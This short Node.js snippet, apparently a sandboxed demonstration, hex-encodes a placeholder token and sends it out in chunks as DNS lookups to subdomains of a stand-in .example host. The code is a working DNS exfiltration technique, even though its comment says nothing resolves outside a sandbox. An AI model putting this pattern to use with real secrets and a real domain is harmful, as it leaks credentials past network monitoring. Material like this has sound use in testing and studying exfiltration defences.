// Nothing answers outside of a sandbox: the names are ones that can't exist.
const dns = require('dns')
const stolen = Buffer.from('token=not-a-real-token').toString('hex')
for (let i = 0; i * 16 < stolen.length; i++) dns.resolve4(`${i}-${stolen.slice(i * 16, i * 16 + 16)}.x.falconer-corpus.example`, () => {})
